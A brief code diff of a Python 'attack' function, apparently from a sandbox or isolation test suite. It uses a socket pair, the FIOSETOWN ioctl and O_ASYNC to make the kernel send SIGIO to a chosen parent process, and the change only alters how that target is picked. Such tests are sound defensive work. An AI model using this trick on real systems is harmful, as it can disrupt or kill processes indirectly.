@@ -7,6 +7,6 @@ import socket
 
 def attack(world):
     near, far = socket.socketpair()
-    fcntl.ioctl(near, 0x8901, os.getppid().to_bytes(4, "little"))
+    fcntl.ioctl(near, 0x8901, world["parent"].to_bytes(4, "little"))
     fcntl.fcntl(near, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
     return far.send(b"x")
